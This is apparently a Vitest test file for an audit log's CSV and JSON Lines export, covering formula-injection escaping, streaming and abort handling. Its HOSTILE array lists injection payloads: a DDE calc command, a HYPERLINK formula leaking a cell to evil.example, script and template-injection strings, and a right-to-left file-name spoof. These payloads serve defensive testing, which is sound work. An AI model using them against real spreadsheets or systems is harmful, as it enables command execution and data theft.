import { DATA_SUBJECT, memoryReader, memoryStore } from '@deedlog/core';
import type { Activity, ActivityItem, LogView, ModelSettings, Reader } from '@deedlog/core';
import { auditHandler } from '@deedlog/http';
import { insertActivities, postgresReader } from '@deedlog/postgres';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { nth } from '../contract/reader.ts';
import { testDatabase } from '../support/database.ts';
import { decide, invoices, readerOf } from './support/log.ts';
import { serveHandler } from './support/serve.ts';

const HOSTILE = [
  '=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠x', '"', '""', 'a"b', 'a,b', 'a;b', 'a\r\nb', '\'', '<script>alert(1)</script>',
  '{{7*7}}', '${7*7}', '\u202egpj.exe', '\ufeff=1', ' =1', 'ünïcödé 漢字 🎉', '', '=HYPERLINK("http://evil.example?x="&A1,"click")',
];

function hostile(text: string, n: number): Activity {
  return nth(n, {
    action: 'invoice.approve', actorKind: 'user', actorId: text, actorLabel: text, targetType: text || null, targetId: text || null, targetLabel: text, tool: text, reason: text, outcomeCode: text,
    message: text.replaceAll(/[{}]/g, '$&$&'), source: text, tenant: text, correlationId: text, metadata: { [`k${text}`]: text }, context: { userAgent: text },
    related: [{ role: DATA_SUBJECT, type: text, id: text, label: text }], changes: { [`f${text}`]: { old: text, new: text } }, onBehalfOf: { kind: 'user', id: text, label: text, via: null, onBehalfOf: null },
  });
}

type Row = Readonly<Record<string, string>>;
const rowsOf = (csv: string): Row[] => parse(csv, { columns: true, relax_column_count: false, record_delimiter: '\r\n' });

/** What a spreadsheet takes for a formula. */
const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;

test('hostile content: every cell comes back from a CSV parser, and none is a formula', async () => {
  const activities = HOSTILE.map(hostile);
  await using server = await serveHandler(auditHandler({ reader: await readerOf(activities), authorize: decide }));
  const response = await server.get('/audit/api/export?format=csv');
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
  expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="activities-\d{4}-\d\d-\d\dT\d{6}Z\.csv"$/);
  const rows = rowsOf(await response.text());
  expect(rows).toHaveLength(HOSTILE.length);
  for (const [index, text] of HOSTILE.toReversed().entries()) {
    const row = rows[index] ?? {};
    expect(Object.values(row).filter((cell) => FORMULA.test(cell))).toEqual([]);
    const cell = FORMULA.test(text) ? `'${text}` : text;
    for (const name of ['actorId', 'actorLabel', 'objectType', 'objectId', 'objectLabel', 'tool', 'reason', 'tenant', 'message', 'source', 'onBehalfOf']) expect([name, row[name]]).toEqual([name, cell]);
    expect(JSON.parse(row['metadata'] ?? '')).toEqual({ [`k${text}`]: text });
    expect(JSON.parse(row['changes'] ?? '')).toEqual([{ field: `f${text}`, old: text, new: text }]);
  }
});

test('property: whatever is stored, the CSV parser gives it back, and no cell is a formula', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.stringMatching(/^[=+\-@\t\r\n"',;]{1,4}.{0,5}$/)), { minLength: 1, maxLength: 5 }), async (texts) => {
      const activities = texts.map((text, n) => nth(n, { reason: text.toWellFormed(), outcomeCode: text.toWellFormed() }));
      const handler = auditHandler({ reader: await readerOf(activities), authorize: decide });
      const rows = rowsOf(await (await handler(new Request('http://localhost/audit/api/export', { headers: { 'x-user': 'auditor' } }))).text());
      expect(rows.map(({ reason }) => reason)).toEqual(activities.map(({ reason }) => (FORMULA.test(reason ?? '') ? `'${reason}` : reason)).toReversed());
      expect(rows.flatMap((row) => Object.values(row)).filter((cell) => FORMULA.test(cell))).toEqual([]);
    }),
    { numRuns: 200 },
  );
});

test('JSON Lines: the items as they are, hostile or not', async () => {
  const reader = await readerOf(HOSTILE.map(hostile));
  await using server = await serveHandler(auditHandler({ reader, authorize: decide }));
  const response = await server.get('/audit/api/export?format=jsonl');
  expect(response.headers.get('content-type')).toBe('application/jsonl; charset=utf-8');
  const items = (await response.text()).trimEnd().split('\n').map((line) => JSON.parse(line) as ActivityItem);
  expect(items).toEqual((await reader.as({ tenants: 'all', models: 'all' }).list()).results);
});

test('own columns of a model are columns; an empty export is its header', async () => {
  const store = memoryStore();
  const own = { nullable: true, indexed: false } as const;
  const models: ModelSettings = {
    billing: { deedlogModel: { table: 'billing', columns: { team: { column: 'team', type: 'text', ...own }, priority: { column: 'priority', type: 'integer', ...own } } } },
  };
  await store.write([nth(0, { model: 'billing', columns: { team: '=1', priority: 3 } })]);
  const handler = auditHandler({ reader: memoryReader(store, { models }), authorize: decide });
  const get = async (query: string): Promise<string> => (await handler(new Request(`http://localhost/audit/api/export?${query}`, { headers: { 'x-user': 'auditor' } }))).text();
  expect(rowsOf(await get('model=billing'))).toMatchObject([{ 'col.team': "'=1", 'col.priority': '3' }]);
  const empty = await get('model=billing&action=no.such');
  expect(empty.split('\r\n')).toHaveLength(2);
  expect(empty).toMatch(/^id,timestamp,.*,col\.team,col\.priority\r\n$/);
  expect(await get('format=jsonl&action=no.such')).toBe('');
});

/** The same reader; tells of each page that is read. */
function watched(reader: Reader, onPage: () => void): Reader {
  return {
    as: (policy) => {
      const view = reader.as(policy);
      const list: LogView['list'] = (query) => {
        onPage();
        return view.list(query);
      };
      return { ...view, list, models: () => view.models() } as LogView;
    },
  };
}

test('20,000 rows stream from the database in pages, as fast as they are taken', async () => {
  await using database = await testDatabase();
  const activities = invoices(20_000).map((activity) => ({ ...activity, reason: 'x'.repeat(500) }));
  for (let start = 0; start < activities.length; start += 2000) await insertActivities(database.client, activities.slice(start, start + 2000));
  let pages = 0;
  const reader = watched(postgresReader(database.client), () => pages++);
  await using server = await serveHandler(auditHandler({ reader, authorize: decide }));
  const response = await server.get('/audit/api/export?format=jsonl');
  await new Promise((resolve) => setTimeout(resolve, 500));
  // The sockets' buffers hold some pages; nobody takes the others.
  expect(pages).toBeLessThan(20);
  const seen = new Set<string>();
  const before = process.memoryUsage().rss;
  let most = 0;
  let rest = '';
  for await (const chunk of (response.body as ReadableStream<Uint8Array>).pipeThrough(new TextDecoderStream() as never) as AsyncIterable<string>) {
    const lines = (rest + chunk).split('\n');
    rest = lines.pop() ?? '';
    for (const line of lines) seen.add((JSON.parse(line) as ActivityItem).id);
    most = Math.max(most, process.memoryUsage().rss - before);
  }
  expect(seen.size).toBe(20_000);
  expect(pages).toBe(40);
  expect(most).toBeLessThan(150 * 1024 * 1024);
}, 120_000);

test('who leaves in the middle stops the reading and gives the place back', async () => {
  let pages = 0;
  const reader = watched(await readerOf(invoices(20_000).map((activity) => ({ ...activity, reason: 'x'.repeat(2000) }))), () => pages++);
  await using server = await serveHandler(auditHandler({ reader, authorize: decide, maxStreams: 1 }));
  const leaving = new AbortController();
  const first = await fetch(`${server.origin}/audit/api/export`, { headers: { 'x-user': 'auditor' }, signal: leaving.signal });
  expect(first.status).toBe(200);
  const busy = await server.get('/audit/api/tail');
  expect([busy.status, ((await busy.json()) as { code: string }).code]).toEqual([503, 'HTTP_BUSY']);
  leaving.abort();
  await expect.poll(async () => (await fetch(`${server.origin}/audit/api/export?action=no.such`, { headers: { 'x-user': 'auditor' } })).status).toBe(200);
  expect(pages).toBeLessThan(40);
});

test('a failure in the middle breaks the file off, and is told to the host', async () => {
  let pages = 0;
  const problems: unknown[] = [];
  const reader = watched(await readerOf(invoices(2000)), () => {
    if (++pages === 3) throw new Error('the database went away');
  });
  await using server = await serveHandler(auditHandler({ reader, authorize: decide, onProblem: (error) => problems.push(error) }));
  const response = await server.get('/audit/api/export');
  expect(response.status).toBe(200);
  await expect(response.text()).rejects.toThrow();
  expect(problems).toMatchObject([{ message: 'the database went away' }]);
});
